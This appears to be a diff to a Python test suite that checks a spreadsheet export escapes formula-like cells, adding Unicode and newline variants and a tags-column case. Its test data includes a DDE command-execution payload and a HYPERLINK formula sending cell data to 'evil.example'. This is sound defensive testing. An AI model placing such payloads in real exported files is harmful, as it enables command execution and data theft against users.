@@ -19,6 +19,11 @@ FORMULAS = [
     "@SUM(A1)",
     "\t=1+1",
     "\r=1+1",
+    "\n=1+1",
+    "\uff1d1+1",
+    "\uff0b1",
+    "\uff0d1",
+    "\uff20SUM(A1)",
     "=cmd|' /C calc'!A0",
     '=HYPERLINK("https://evil.example?"&A1)',
 ]
@@ -106,11 +111,18 @@ def test_what_a_reviewer_needs_goes_along() -> None:
     )
 
 
+def test_nothing_of_a_term_or_its_labels_is_lost() -> None:
+    asked = question(1, QuestionType.VOCABULARY).model_copy(update={"tags": ("leaves", "two words")})
+    [row] = rows(asked)
+    assert row["example"] == "A stoma opens."
+    assert (row["cognitive_level"], row["tags"]) == ("remember", "leaves | two words")
+
+
 @pytest.mark.parametrize("formula", FORMULAS)
 def test_no_cell_becomes_a_formula(formula: str) -> None:
     content = MultipleChoice(stem=formula, options=(formula, "b", "c"), answer=0)
     [row] = rows(question(1, QuestionType.MULTIPLE_CHOICE, content=content, text=formula))
-    for name in ("question", "answer", "option_1", "module", "explanation", "evidence"):
+    for name in ("question", "answer", "option_1", "module", "explanation", "evidence", "tags"):
         assert row[name] == f"'{formula}", name
 
 
